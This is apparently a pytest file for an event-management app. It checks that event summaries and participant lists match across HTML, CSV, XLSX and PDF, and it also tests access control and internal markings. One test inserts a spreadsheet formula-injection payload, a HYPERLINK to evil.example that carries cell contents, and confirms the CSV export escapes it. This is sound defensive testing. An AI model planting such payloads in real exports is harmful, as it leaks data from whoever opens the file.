"""Event summary and List of Participants: HTML, CSV, XLSX and PDF agree with the database."""

from __future__ import annotations

import csv
import io
import subprocess
import unicodedata

import pytest
from openpyxl import load_workbook

from eventsapp.reference import ECONOMIES

from . import dataset
from .conftest import pdf_text
from .html import parse, table_counts

BASE = f"/admin/events/{dataset.SLUG}"
ECONOMY_COUNTS = {name: dataset.BY_ECONOMY.get(code, 0) for code, name in ECONOMIES.items()}
ECONOMY_ATTENDED = {name: dataset.ATTENDED_BY_ECONOMY.get(code, 0)
                    for code, name in ECONOMIES.items()}
ATTENDANCE = {"10 February 2020": 5, "11 February 2020": 3}


def nfkc(text: str) -> str:
    return unicodedata.normalize("NFKC", text)


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_summary_page_shows_the_figures_of_the_database(client, data, organiser):
    page = parse(client.get(f"{BASE}/summary").data)
    assert page.figures == {"capacity": "8", "confirmed": "8", "attended": "6", "fill": "100%",
                            "waitlisted": "2", "cancelled": "2", "economies": "4 of 21"}
    assert page.tables["by-economy"][0] == ["Economy", "Registered", "Attended"]
    assert table_counts(page, "by-economy", 1) == ECONOMY_COUNTS
    assert table_counts(page, "by-economy", 2) == ECONOMY_ATTENDED
    assert list(table_counts(page, "by-economy")) == list(ECONOMIES.values())
    assert table_counts(page, "by-organisation", 1) == dataset.ORGANISATIONS
    assert table_counts(page, "by-organisation", 2) == dataset.ATTENDED_ORGANISATIONS
    assert table_counts(page, "by-sector", 1) == dataset.BY_SECTOR
    assert table_counts(page, "by-sector", 2) == dataset.ATTENDED_BY_SECTOR
    assert table_counts(page, "by-category", 1) == dataset.BY_CATEGORY
    assert table_counts(page, "by-category", 2) == dataset.ATTENDED_BY_CATEGORY
    assert table_counts(page, "attendance") == {**ATTENDANCE, "On at least one day": 6}


def test_summary_of_an_event_nobody_was_checked_in_at_calls_nobody_a_participant(
        client, data, organiser, app):
    from sqlalchemy import delete

    from eventsapp.extensions import db
    from eventsapp.models import CheckIn

    with app.app_context():
        db.session.execute(delete(CheckIn))
        db.session.commit()
    html = client.get(f"{BASE}/summary").data.decode()
    page = parse(html)

    assert page.figures["attended"] == "None recorded"
    assert page.tables["by-economy"][0] == ["Economy", "Registered"]
    assert "No check-in was recorded, so nothing here says who came." in html
    import re

    # The summary itself, without the event's menu (whose "Participants" links the List).
    summary = html.split("<main", 1)[1]
    summary = re.sub(r'<nav class="event-menu".*?</nav>', "", summary, flags=re.S)
    visible = re.sub(r"<[^>]+>", " ", summary)
    assert "articipant" not in visible.replace("List of Participants", "")
    text = nfkc(pdf_text(client.get(f"{BASE}/summary.pdf").data))
    assert ("Attended: no check-in was recorded, so the figures below are registrations only; "
            "they do not say who came.") in " ".join(text.split())
    assert "Economy Registered" in text.splitlines()
    assert "articipant" not in text


def test_summary_page_draws_accessible_svg_charts(client, data, organiser):
    html = client.get(f"{BASE}/summary").data.decode()
    assert html.count("<svg ") == 2
    assert 'role="img" aria-labelledby="chart-economy-title chart-economy-desc"' in html
    assert '<title id="chart-economy-title">Registered by economy</title>' in html
    assert "Capacity 8" in html
    assert "style=" not in html  # CSP: style-src 'self' allows no inline styles


def test_summary_marks_cancelled_agenda_items(client, data, organiser):
    html = client.get(f"{BASE}/summary").data.decode()
    assert f"<strong>Cancelled:</strong> <s>{dataset.CANCELLED_ITEM}</s>" in html


def test_summary_csv_has_the_same_counts_as_the_page(client, data, organiser):
    response = client.get(f"{BASE}/summary.csv")
    rows = csv_rows(response.data)
    assert response.headers["Content-Disposition"] == 'attachment; filename="ctwg-15-summary.csv"'
    assert rows[0] == ["section", "key", "label", "count", "attended"]
    by, came = {}, {}
    for section, key, label, count, attended in rows[1:]:
        by.setdefault(section, {})[label] = int(count)
        if attended != "":
            came.setdefault(section, {})[label] = int(attended)
    assert by["registrations"] == {"Capacity": 8, "Registered (confirmed)": 8,
                                   "Waiting list": 2, "Cancelled": 2,
                                   "Economies represented": 4}
    assert by["economy"] == ECONOMY_COUNTS
    assert came["economy"] == ECONOMY_ATTENDED
    assert came["sector"] == dataset.ATTENDED_BY_SECTOR
    assert by["organisation"] == dataset.ORGANISATIONS
    assert by["sector"] == dataset.BY_SECTOR
    assert by["category"] == dataset.BY_CATEGORY
    assert by["attendance"] == {"2020-02-10": 5, "2020-02-11": 3,
                                "Checked in on at least one day": 6}


def test_summary_xlsx_counts_equal_the_csv_and_lists_participants(client, data, organiser):
    csv_data = csv_rows(client.get(f"{BASE}/summary.csv").data)
    response = client.get(f"{BASE}/summary.xlsx")
    wb = load_workbook(io.BytesIO(response.data), read_only=True)
    assert wb.sheetnames == ["Counts", "Participants"]
    counts = [["" if v is None else str(v) for v in row]
              for row in wb["Counts"].iter_rows(values_only=True)]
    assert counts == csv_data
    people = list(wb["Participants"].iter_rows(values_only=True))
    assert [r[1] for r in people[1:]] == [n for _, names in dataset.LOP_ORDER for n in names]
    assert people[1][9] == dataset.email_of("jane")


def test_summary_pdf_has_the_same_figures(client, data, organiser):
    response = client.get(f"{BASE}/summary.pdf")
    assert response.mimetype == "application/pdf"
    lines = nfkc(pdf_text(response.data)).splitlines()
    assert "Capacity Registered Fill Waiting list Cancelled" in lines
    assert "8 8 100% 2 2" in lines
    assert "Economies represented: 4 of 21 registered, 4 attended." in lines
    assert "Economy Registered Attended" in lines
    for name, n in ECONOMY_COUNTS.items():
        assert f"{name} {n} {ECONOMY_ATTENDED[name]}" in lines, name
    for counts, came in ((dataset.ORGANISATIONS, dataset.ATTENDED_ORGANISATIONS),
                         (dataset.BY_SECTOR, dataset.ATTENDED_BY_SECTOR),
                         (dataset.BY_CATEGORY, dataset.ATTENDED_BY_CATEGORY)):
        for name, n in counts.items():
            assert f"{name} {n} {came[name]}" in lines, name
    for name, n in ATTENDANCE.items():
        assert f"{name} {n}" in lines, name
    assert "People checked in on at least one day 6" in lines
    assert "Attended: 6 people checked in on at least one day." in lines
    assert "Tuesday 11 February 2020 Cancelled: Side meeting on data sharing Side" in lines
    assert lines[0] == "APEC Counter-Terrorism Working Group"
    assert lines[-1].endswith("Page 3 of 3")


def _words(pdf: bytes, tmp_path) -> list[tuple[str, float, float, float]]:
    """(text, x0, x1, y0) of every word, from pdftotext -bbox."""
    import re

    path = tmp_path / "words.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(["pdftotext", "-bbox", str(path), "-"], capture_output=True,
                         check=True, text=True).stdout
    return [(w, float(x0), float(x1), float(y0)) for x0, y0, x1, w in re.findall(
        r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)</word>',
        out)]


def _under(words, header: list[str], values: list[str]) -> list[tuple[str, str, float]]:
    """For a header row and the value row that follows it (on the same page, in reading
    order): (header, value, distance between their right edges in points)."""
    ends, i = [], 0
    for h in header:  # the last word of each (possibly multi-word) header
        last = h.split()[-1]
        i = next(j for j in range(i, len(words)) if words[j][0] == last)
        ends.append(words[i])
    row = words[i + 1:i + 1 + len(header)]
    assert [w[0] for w in row] == values and len({w[3] for w in row}) == 1, row
    return [(h, v[0], abs(e[2] - v[2])) for h, e, v in zip(header, ends, row, strict=True)]


def test_summary_pdf_numbers_stand_right_aligned_under_their_headers(client, data, organiser,
                                                                    tmp_path):
    words = _words(client.get(f"{BASE}/summary.pdf").data, tmp_path)
    gaps = _under(words, ["Capacity", "Registered", "Fill", "Waiting list", "Cancelled"],
                  ["8", "8", "100%", "2", "2"])
    assert [(h, v) for h, v, _ in gaps] == [("Capacity", "8"), ("Registered", "8"),
                                            ("Fill", "100%"), ("Waiting list", "2"),
                                            ("Cancelled", "2")]
    assert max(gap for _, _, gap in gaps) < 1.0  # right edges agree within 1 pt


def test_pdfs_embed_every_font_and_carry_a_title(client, data, organiser, tmp_path):
    for path, title in ((f"{BASE}/summary.pdf", "Summary: "),
                        (f"{BASE}/participants.pdf", "List of Participants: ")):
        pdf = tmp_path / "out.pdf"
        pdf.write_bytes(client.get(path).data)
        fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True,
                               check=True).stdout.splitlines()[2:]
        assert fonts and all(" yes yes yes " in line for line in fonts), fonts
        info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True,
                              check=True).stdout
        assert f"Title:           {title}15th Counter-Terrorism Working Group Meeting" in info


def test_list_of_participants_page_is_in_protocol_order(client, data, organiser):
    page = parse(client.get(f"{BASE}/participants").data)
    names = iter(page.by_class["lop-name"])
    got = [(h, [next(names) for _ in people]) for h, people in dataset.LOP_ORDER]
    assert page.by_class["h2"] == [h for h, _ in dataset.LOP_ORDER]
    assert got == dataset.LOP_ORDER
    assert page.by_class["lop-native"] == ["李小龍", "สมชาย ใจดี"]


@pytest.mark.parametrize("path", ["participants.pdf", "summary.pdf"])
def test_a_report_pdf_that_takes_too_long_is_stopped_with_a_clean_503(app, client, data,
                                                                      organiser, path):
    app.config["PDF_TIME_LIMIT_SECONDS"] = 0.0001
    response = client.get(f"{BASE}/{path}")
    assert (response.status_code, response.headers["Retry-After"]) == (503, "2")
    assert "took longer than 0.0001 seconds to make" in response.get_data(as_text=True)


def test_list_of_participants_pdf_is_in_the_same_order_with_every_script(client, data, organiser):
    text = nfkc(pdf_text(client.get(f"{BASE}/participants.pdf").data))
    order = [x for heading, names in dataset.LOP_ORDER for x in (heading, *names)]
    positions = [text.index(nfkc(x)) for x in order]
    assert positions == sorted(positions)
    for native in ("李小龍", "สมชาย ใจดี", "Nguyễn Thị Minh Khai"):
        assert nfkc(native) in text
    assert "\x00" not in text and "■" not in text and "\ufffd" not in text
    assert "8 registered (confirmed)." in text


def test_participants_csv_follows_the_list_and_escapes_formulas(client, data, organiser, app):
    from eventsapp.extensions import db
    from eventsapp.models import Registration

    with app.app_context():
        reg = db.session.get(Registration, 1)
        reg.organisation = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        reg.job_title = "\t=1+1"
        db.session.commit()
    rows = csv_rows(client.get(f"{BASE}/participants.csv").data)
    assert [r[1] for r in rows[1:]] == [n for _, names in dataset.LOP_ORDER for n in names]
    jane = rows[1]
    assert (jane[3], jane[4]) == ("'\t'=1+1", '\'=HYPERLINK("http://evil.example/?"&A1,"x")')


@pytest.mark.parametrize("path", ["summary", "summary.pdf", "summary.csv", "summary.xlsx",
                                  "participants", "participants.pdf", "participants.csv"])
def test_event_reports_are_for_organisers_only(client, app, data, path):
    from .conftest import sign_in

    assert client.get(f"{BASE}/{path}").status_code in (302, 303)
    with app.app_context():
        sign_in(client, dataset.make_user(role="checkin", email="door@example.org"))
    assert client.get(f"{BASE}/{path}").status_code == 403


def test_organiser_limited_to_another_event_is_refused(client, app, data):
    from sqlalchemy import select

    from eventsapp.extensions import db
    from eventsapp.models import Event

    from .conftest import sign_in

    with app.app_context():
        other = db.session.scalar(select(Event).where(Event.slug == "star-xi"))
        sign_in(client, dataset.make_user(events=[other]))
    assert client.get(f"{BASE}/summary").status_code == 403
    assert client.get("/admin/events/star-xi/summary").status_code == 200


def test_unknown_event_is_404(client, data, organiser):
    assert client.get("/admin/events/nope/summary.pdf").status_code == 404


def test_internal_list_of_participants_pdf_says_internal_on_every_page_the_public_one_not(
        app, data):
    from sqlalchemy import select

    from eventsapp.extensions import db
    from eventsapp.models import Event
    from eventsapp.reports.documents import participants_pdf
    from eventsapp.reports.participants import list_of_participants

    with app.app_context():
        event = db.session.scalar(select(Event).where(Event.slug == dataset.SLUG))
        lop = list_of_participants(event)
        # Enough people for several pages: the marking must be on each of them.
        long_list = type(lop)(lop.title, False, lop.economies * 12, lop.organisations)
        internal = participants_pdf(long_list, event, "APEC CTWG")
        public = participants_pdf(list_of_participants(event, public=True), event, "APEC CTWG")

    raw = subprocess.run(["pdftotext", "-layout", "-enc", "UTF-8", "-", "-"], input=internal,
                         capture_output=True, check=True).stdout.decode()
    pages = ["\n".join(" ".join(line.split())
             for line in p.splitlines()) for p in raw.split("\f")[:-1]]
    assert len(pages) >= 2
    assert [p.splitlines()[0] for p in pages] == ["APEC CTWG INTERNAL"] * len(pages)
    assert "INTERNAL: for the organisers." in pages[0]
    assert "(internal)" in pages[-1].splitlines()[-1]
    assert "INTERNAL" not in pdf_text(public).upper().replace("INTERNATIONAL", "")
    assert "@" not in pdf_text(public)


def test_internal_list_page_is_marked_and_links_the_internal_pdf(client, data, organiser):
    html = client.get(f"{BASE}/participants").data.decode()
    assert ('<p class="notice notice-warning" id="internal-marking"><strong>Internal:</strong>'
            in html)
    assert "List of Participants, internal (PDF)" in html
